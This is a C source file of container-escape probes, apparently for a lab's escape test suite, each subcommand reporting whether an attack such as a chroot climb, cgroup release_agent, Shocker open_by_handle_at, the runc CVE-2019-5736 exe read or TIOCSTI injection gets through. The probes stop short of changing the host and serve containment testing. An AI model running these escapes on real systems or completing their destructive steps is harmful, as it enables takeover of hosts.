/* Attacks a process inside a container may try, one per subcommand. Each prints one line:
 *   ESCAPED: <evidence>      it reached something of the host's: a file, a process, a device, an fd,
 *                             a service, a machine-wide setting (nothing on the host is changed:
 *                             writes are only opened, or write back the value already there)
 *   ALLOWED: <evidence>      the kernel let it through, but what it made or changed is the
 *                             container's own (a mount, a user namespace, an io_uring, its terminal)
 *   CONTAINED: <why>         the kernel refused it
 *   INFO: <data>             for the caller to judge (namespace identities)
 * Used by the escape test suite and notebook 05; built with gcc -static by minicontainer.lab.payloads.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <linux/sched.h>  /* struct clone_args */
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mount.h>
#include <sys/msg.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <dirent.h>
#include <termios.h>
#include <unistd.h>

static int escaped(const char *what) { printf("ESCAPED: %s\n", what); return 1; }
static int allowed(const char *what) { printf("ALLOWED: %s\n", what); return 1; }
static int contained(const char *call) { printf("CONTAINED: %s: %s\n", call, strerror(errno)); return 0; }

/* chroot into a subdirectory, climb "..", chroot there: is a host-only file visible? */
static int chroot_escape(const char *host_marker)
{
    mkdir("escape-hatch", 0700);
    if (chroot("escape-hatch") != 0) return contained("chroot");
    for (int i = 0; i < 64; i++) chdir("..");
    if (chroot(".") != 0) return contained("chroot .");
    if (access(host_marker, F_OK) == 0) return escaped("the host's root is reachable");
    printf("CONTAINED: the climb ended at the container's own root\n");
    return 0;
}

/* Opening for writing is enough to show the write would be accepted; nothing is written. */
static int open_for_write(const char *path)
{
    int fd = open(path, O_WRONLY);
    if (fd < 0) return contained(path);
    close(fd);
    return escaped("opened for writing (nothing written)");
}

static int read_file(const char *path)
{
    char buf[256];
    int fd = open(path, O_RDONLY);
    if (fd < 0) return contained(path);
    ssize_t n = read(fd, buf, sizeof buf);
    close(fd);
    if (n < 0) return contained("read");
    if (n == 0) { printf("CONTAINED: it reads as empty (masked)\n"); return 0; }
    return escaped("read it");
}

/* A node for one of the host's block devices (not in the container's /dev, but it can be made
 * with CAP_MKNOD), then opened read-only: nothing is read. */
static int mknod_and_open(unsigned major, unsigned minor)
{
    char evidence[128];
    unlink("/host-disk");
    if (mknod("/host-disk", S_IFBLK | 0600, makedev(major, minor)) != 0) return contained("mknod");
    int fd = open("/host-disk", O_RDONLY);
    unlink("/host-disk");
    if (fd < 0) return contained("mknod worked; open");
    close(fd);
    snprintf(evidence, sizeof evidence, "opened the host's block device %u:%u for reading (nothing read)",
             major, minor);
    return escaped(evidence);
}

static int mount_tmpfs(void)
{
    mkdir("/mnt", 0755);
    if (mount("attack", "/mnt", "tmpfs", 0, NULL) != 0) return contained("mount");
    umount("/mnt");
    return allowed("mounted a tmpfs (in the container's own mount namespace)");
}

static int release_agent(const char *controller)
{
    mkdir("/mnt", 0755);
    if (mount("cgroup", "/mnt", "cgroup", 0, controller) != 0) return contained("mount cgroup");
    int result = open_for_write("/mnt/release_agent");
    umount("/mnt");
    return result;
}

static int signal_pid(int pid, int sig)
{
    if (kill(pid, sig) != 0) return contained("kill");
    return escaped(sig ? "signalled it" : "it is visible and may be signalled");
}

static int inherited_fd(int fd)
{
    char buf[128];
    if (fcntl(fd, F_GETFD) < 0) return contained("fcntl");
    ssize_t n = pread(fd, buf, sizeof buf - 1, 0);
    if (n < 0) return contained("pread");
    return escaped("read a host file through an inherited fd");
}

static int fork_many(int count)
{
    pid_t children[256];
    int made = 0;
    for (int i = 0; i < count && i < 256; i++) {
        pid_t pid = fork();
        if (pid == 0) { pause(); _exit(0); }
        if (pid < 0) break;
        children[made++] = pid;
    }
    for (int i = 0; i < made; i++) { kill(children[i], SIGKILL); waitpid(children[i], NULL, 0); }
    return made;
}

static int allocate(long bytes)
{
    long chunk = 1 << 20;
    for (long done = 0; done < bytes; done += chunk) {
        char *p = malloc(chunk);
        if (!p) return contained("malloc");
        memset(p, 1, chunk);  /* touch it: untouched memory is not charged */
    }
    return allowed("allocated all of it");
}

static int fill(const char *path, long bytes)
{
    static char block[1 << 16];
    memset(block, 1, sizeof block);
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
    if (fd < 0) return contained("open");
    for (long done = 0; done < bytes; done += sizeof block)
        if (write(fd, block, sizeof block) != sizeof block) { close(fd); unlink(path); return contained("write"); }
    close(fd);
    unlink(path);
    return allowed("wrote all of it");
}

static int connect_loopback(int port)
{
    struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, "127.0.0.1", &addr.sin_addr);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *)&addr, sizeof addr) != 0) return contained("connect");
    close(s);
    return escaped("connected to a service on the host's 127.0.0.1");
}

/* INFO lines: the caller compares the namespace identities with its own. */
static int hostname_write(void)
{
    char name[256], link[64];
    gethostname(name, sizeof name);
    int accepted = sethostname(name, strlen(name)) == 0;  /* the value already there: nothing changes */
    ssize_t n = readlink("/proc/self/ns/uts", link, sizeof link - 1);
    link[n > 0 ? n : 0] = 0;
    printf("INFO: sethostname %s %s\n", accepted ? "accepted" : "refused", link);
    return 0;
}

static int sysv_queue(void)
{
    char link[64];
    int queue = msgget(IPC_PRIVATE, IPC_CREAT | 0600);
    if (queue >= 0) msgctl(queue, IPC_RMID, NULL);  /* removed at once: the host keeps nothing */
    ssize_t n = readlink("/proc/self/ns/ipc", link, sizeof link - 1);
    link[n > 0 ? n : 0] = 0;
    printf("INFO: msgget %s %s\n", queue >= 0 ? "accepted" : "refused", link);
    return 0;
}

static int euid(void)
{
    if (geteuid() == 0) return allowed("a setuid-root program ran with euid 0 (root of the container)");
    printf("CONTAINED: euid stays %d\n", geteuid());
    return 0;
}

static int seccomp_keyctl(void)
{
    /* KEYCTL_GET_KEYRING_ID of KEY_SPEC_USER_KEYRING, never creating it: keyrings belong to uids of
     * the host's user namespace, so uid 0's keyring is the host root's. The caller compares ids. */
    long id = syscall(SYS_keyctl, 0, -4, 0);
    if (id < 0 && errno == ENOKEY) return allowed("keyctl reached the kernel's keyrings (uid 0 has none yet)");
    if (id < 0) return contained("keyctl");
    printf("ESCAPED: reached uid 0's user keyring, id %ld (only a user namespace separates keyrings)\n", id);
    return 1;
}

/* Write "0 <uid> 1" maps for the calling process, as `unshare -r` does. */
static void map_own_ids(void)
{
    char map[64];
    int fd = open("/proc/self/setgroups", O_WRONLY);
    if (fd >= 0) { write(fd, "deny", 4); close(fd); }
    snprintf(map, sizeof map, "0 %d 1", getuid() == 0 ? 0 : getuid());
    fd = open("/proc/self/uid_map", O_WRONLY);
    if (fd >= 0) { write(fd, map, strlen(map)); close(fd); }
    snprintf(map, sizeof map, "0 %d 1", getgid() == 0 ? 0 : getgid());
    fd = open("/proc/self/gid_map", O_WRONLY);
    if (fd >= 0) { write(fd, map, strlen(map)); close(fd); }
}

/* Inside a new user namespace: which capabilities, and can it mount? */
static int mount_in_new_user_ns(const char *how)
{
    char line[256], evidence[256], caps[32] = "?";
    map_own_ids();
    FILE *status = fopen("/proc/self/status", "r");
    while (status && fgets(line, sizeof line, status))
        if (sscanf(line, "CapEff: %31s", caps) == 1) break;
    if (status) fclose(status);
    if (mount("attack", "/tmp", "tmpfs", 0, NULL) != 0) return contained("mount in the new namespaces");
    snprintf(evidence, sizeof evidence, "%s gave a new user namespace with CapEff %s, and a tmpfs mounted there",
             how, caps);
    return allowed(evidence);
}

static int userns_mount(void)
{
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) return contained("unshare(CLONE_NEWUSER|CLONE_NEWNS)");
    return mount_in_new_user_ns("unshare");
}

static int clone3_userns_mount(void)
{
    struct clone_args args = {.flags = CLONE_NEWUSER | CLONE_NEWNS, .exit_signal = SIGCHLD};
    long pid = syscall(SYS_clone3, &args, sizeof args);
    if (pid < 0) return contained("clone3(CLONE_NEWUSER|CLONE_NEWNS)");
    if (pid == 0) _exit(mount_in_new_user_ns("clone3") ? 0 : 1);  /* no stack given: the child runs on a copy */
    int status;
    waitpid(pid, &status, 0);
    return WIFEXITED(status) && WEXITSTATUS(status) == 0;
}

/* TIOCSTI with bit 32 set: the kernel reads ioctl's request as 32 bits, so it is TIOCSTI still.
 * The terminal is a pty of its own, made its controlling terminal (TIOCSTI on any other needs
 * CAP_SYS_ADMIN); on a terminal the host hands a container, the byte would be typed into the
 * host's shell. */
static int tiocsti_high_bits(void)
{
    int master = posix_openpt(O_RDWR | O_NOCTTY);
    if (master < 0 || unlockpt(master) != 0) return contained("open a pty");
    char *name = ptsname(master);
    int pipefd[2];
    pipe(pipefd);
    pid_t pid = fork();
    if (pid == 0) {
        char result = 'n', pushed = '#', got = 0;
        setsid();
        int slave = open(name, O_RDWR);  /* a session leader's first terminal becomes its controlling one */
        struct termios raw;
        tcgetattr(slave, &raw);
        cfmakeraw(&raw);
        tcsetattr(slave, TCSANOW, &raw);
        if (syscall(SYS_ioctl, slave, (unsigned long)TIOCSTI | 1UL << 32, &pushed) != 0) {
            result = (char)errno;
        } else {
            fcntl(slave, F_SETFL, O_NONBLOCK);
            result = read(slave, &got, 1) == 1 && got == pushed ? 'y' : 'n';
        }
        write(pipefd[1], &result, 1);
        _exit(0);
    }
    char result = 0;
    read(pipefd[0], &result, 1);
    waitpid(pid, NULL, 0);
    if (result == 'y') return allowed("TIOCSTI | 1 << 32 pushed a byte into the terminal's input");
    if (result == 'n') { printf("CONTAINED: the ioctl returned, but no byte arrived\n"); return 0; }
    errno = result;
    return contained("ioctl(TIOCSTI | 1 << 32)");
}

static int io_uring(void)
{
    unsigned char params[120] = {0};  /* struct io_uring_params, all zero: the defaults */
    long fd = syscall(SYS_io_uring_setup, 4, params);
    if (fd < 0) return contained("io_uring_setup");
    close(fd);
    return allowed("io_uring_setup gave an io_uring: its whole interface is reachable");
}

/* "Shocker": with CAP_DAC_READ_SEARCH, open_by_handle_at opens any inode of a filesystem by number.
 * ext4's root directory is inode 2, generation 0: that opens the host filesystem's root through
 * any file of it the container has, here the bind-mounted payload itself. */
static int open_by_handle(const char *host_file)
{
    struct statfs fs;
    char evidence[128];
    if (statfs(host_file, &fs) != 0 || fs.f_type != 0xEF53) {
        printf("CONTAINED: %s is not on ext4, whose handle format this attack uses\n", host_file);
        return 0;
    }
    struct { unsigned int bytes; int type; unsigned int inode, generation; } handle = {8, 1, 2, 0};
    int mount_fd = open(host_file, O_RDONLY);
    int fd = open_by_handle_at(mount_fd, (struct file_handle *)&handle, O_RDONLY | O_DIRECTORY);
    if (fd < 0) return contained("open_by_handle_at");
    DIR *root = fdopendir(fd);
    int entries = 0;
    while (root && readdir(root)) entries++;
    snprintf(evidence, sizeof evidence, "opened the root directory of the host's filesystem by handle "
             "(%d entries)", entries);
    return escaped(evidence);
}

/* The first half of runc's CVE-2019-5736: while the runtime enters the container (exec), its
 * process is for a moment the host's own program in this PID namespace. Watch /proc for a process
 * whose /proc/PID/exe is no file of this container, open it and read its ELF header. Only read: a
 * real attack keeps the descriptor and, once no process runs the binary, rewrites it (root here holds
 * CAP_DAC_OVERRIDE). Watches until SIGTERM, or until it gets through; with "once", looks once. */
static volatile sig_atomic_t stop_watching;
static void on_term(int sig) { (void)sig; stop_watching = 1; }

static int runtime_exe(int once)
{
    char path[64], target[256], evidence[400];
    int seen[64], nseen = 0, refused = 0, last_errno = 0;
    signal(SIGTERM, on_term);
    printf("INFO: watching /proc for a process running a host binary\n");
    while (!stop_watching) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc && (entry = readdir(proc))) {
            int pid = atoi(entry->d_name), known = 0;
            if (pid <= 0 || pid == getpid()) continue;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_RDONLY);
            if (fd < 0) {
                if (errno != EACCES && errno != EPERM) continue;  /* gone, or a kernel thread */
                last_errno = errno;
                for (int i = 0; i < nseen; i++) known |= seen[i] == pid;
                if (!known && nseen < 64) { seen[nseen++] = pid; refused++; }
                continue;
            }
            snprintf(path, sizeof path, "/proc/self/fd/%d", fd);  /* the file opened, whatever the process did since */
            ssize_t n = readlink(path, target, sizeof target - 1);
            target[n > 0 ? n : 0] = 0;
            struct stat opened, here;
            unsigned char header[4] = {0};
            fstat(fd, &opened);
            int ours = stat(target, &here) == 0 && here.st_dev == opened.st_dev && here.st_ino == opened.st_ino;
            if (!ours && read(fd, header, 4) == 4 && !memcmp(header, "\177ELF", 4)) {
                snprintf(evidence, sizeof evidence, "read the ELF header of %s, a binary of the host's "
                         "(not in this container), through /proc/%d/exe", target, pid);
                close(fd);
                closedir(proc);
                return escaped(evidence);
            }
            close(fd);
        }
        if (proc) closedir(proc);
        if (once) break;
    }
    if (!refused) {
        printf("INFO: saw no process of the runtime's\n");
        return 0;
    }
    snprintf(evidence, sizeof evidence, "saw %d process(es) of the runtime; /proc/PID/exe refused for each",
             refused);
    errno = last_errno;
    return contained(evidence);
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IONBF, 0);
    const char *a = argc > 1 ? argv[1] : "";
    const char *arg = argc > 2 ? argv[2] : "";
    if (!strcmp(a, "chroot-escape")) return chroot_escape(arg);
    if (!strcmp(a, "write-sysctl")) return open_for_write("/proc/sys/kernel/core_pattern");
    if (!strcmp(a, "read-proc")) return read_file(arg);
    if (!strcmp(a, "mknod-disk")) return mknod_and_open(atoi(arg), atoi(argv[3]));
    if (!strcmp(a, "mount")) return mount_tmpfs();
    if (!strcmp(a, "release-agent")) return release_agent(arg);
    if (!strcmp(a, "signal-host-pid")) return signal_pid(atoi(arg), 0);
    if (!strcmp(a, "kill-all")) return signal_pid(-1, atoi(arg));
    if (!strcmp(a, "inherited-fd")) return inherited_fd(atoi(arg));
    if (!strcmp(a, "fork-many")) { printf("INFO: forked %d\n", fork_many(atoi(arg))); return 0; }
    if (!strcmp(a, "allocate")) return allocate(atol(arg));
    if (!strcmp(a, "fill")) return fill(arg, atol(argv[3]));
    if (!strcmp(a, "connect-loopback")) return connect_loopback(atoi(arg));
    if (!strcmp(a, "hostname")) return hostname_write();
    if (!strcmp(a, "sysv-queue")) return sysv_queue();
    if (!strcmp(a, "euid")) return euid();
    if (!strcmp(a, "pause")) { pause(); return 0; }  /* stays, for a checker to read its /proc/PID/status */
    if (!strcmp(a, "keyctl")) return seccomp_keyctl();
    if (!strcmp(a, "userns-mount")) return userns_mount();
    if (!strcmp(a, "clone3-userns-mount")) return clone3_userns_mount();
    if (!strcmp(a, "tiocsti-high-bits")) return tiocsti_high_bits();
    if (!strcmp(a, "io-uring")) return io_uring();
    if (!strcmp(a, "open-by-handle")) return open_by_handle(arg);
    if (!strcmp(a, "runtime-exe")) return runtime_exe(!strcmp(arg, "once"));
    fprintf(stderr, "usage: attacks NAME [ARGS]\n");
    return 2;
}
